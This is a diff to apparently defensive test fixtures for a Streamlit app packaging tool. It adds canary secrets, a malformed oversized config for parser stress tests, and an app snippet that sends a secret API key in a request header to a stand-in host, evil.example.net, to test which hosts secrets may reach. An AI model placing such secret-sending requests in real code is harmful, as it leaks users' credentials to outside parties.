@@ -30,8 +30,11 @@ _PRIVATE_KEY = (
     "-----END OPENSSH PRIVATE KEY-----\n"
 )
 _NAMED = "CANARY-NAMED-secret"  # in files left out by their name
+_FORWARDED = "CANARY-FORWARDED-91c4"  # a secret stc proxy holds for web requests
 
-CANARIES = (OUTSIDE, _GITHUB, _AWS, _SLACK, _STRIPE, _URL_PASSWORD, "CANARYkey", _NAMED)
+CANARIES = (
+    OUTSIDE, _GITHUB, _AWS, _SLACK, _STRIPE, _URL_PASSWORD, "CANARYkey", _NAMED, _FORWARDED,
+)  # fmt: skip
 _APP = "import streamlit as st\nst.write('hello')\n"
 
 TREES: dict[str, Tree] = {}
@@ -191,6 +194,29 @@ TREES["config:injection"] = _files(
 )
 TREES["pages-toml:nested"] = _files(
     {".streamlit/pages.toml": "a = " + "{b = " * 3000 + "1" + "}" * 3000}
+)
+TREES["pyproject:forward-secrets"] = _files(
+    {
+        "pyproject.toml": '[tool.stc]\nproxy_url = "https://p.example"\n'
+        'proxy_hosts = ["data.example.org"]\n[tool.stc.secrets]\n'
+        'API_KEY = { hosts = ["api.example.com"] }\n'
+        '"openai.api_key" = { hosts = ["api.openai.com"] }\n',
+        ".streamlit/secrets.toml": f'API_KEY = "{_FORWARDED}"\n'
+        f'[openai]\napi_key = "{_FORWARDED}"\n',
+    },
+    app="import requests\nimport streamlit as st\n"
+    "requests.get('https://evil.example.net', headers={'k': st.secrets['API_KEY']})\n"
+    "st.write(st.secrets.openai.api_key, st.secrets['other'])\n",
+)
+TREES["pyproject:forward-garbage"] = _files(
+    {
+        "pyproject.toml": '[tool.stc]\nproxy_hosts = [1, "' + "x" * 100_000 + '", "https://a/b"]\n'
+        "[tool.stc.secrets]\n"
+        + "".join(f'"k{i}.{"x" * 50}" = {{ hosts = ["{"h" * 300}"] }}\n' for i in range(2000))
+        + 'bad = 3\n"connections.x" = { hosts = ["a.b"] }\n"" = { hosts = ["a"] }\n'
+        + 'nested.deeper = { hosts = ["a.b"] }\n',
+        ".streamlit/secrets.toml": f'k1 = "{_FORWARDED}"\n',
+    }
 )
 _REQUIREMENTS = {
     "long-pin": "numpy==" + "9" * 5000 + "\n",
